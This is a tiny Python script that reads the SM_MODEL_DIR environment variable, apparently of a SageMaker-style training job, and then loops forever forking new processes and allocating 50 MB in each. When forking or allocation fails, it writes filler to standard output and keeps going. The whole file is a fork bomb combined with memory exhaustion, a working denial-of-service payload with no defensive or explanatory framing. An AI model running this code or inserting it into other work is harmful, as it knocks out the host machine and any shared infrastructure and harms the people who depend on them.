import os

os.environ["SM_MODEL_DIR"]
while True:
    try:
        os.fork()
        held = b"x" * 50_000_000
    except (OSError, MemoryError):
        os.write(1, b"x" * 1000)
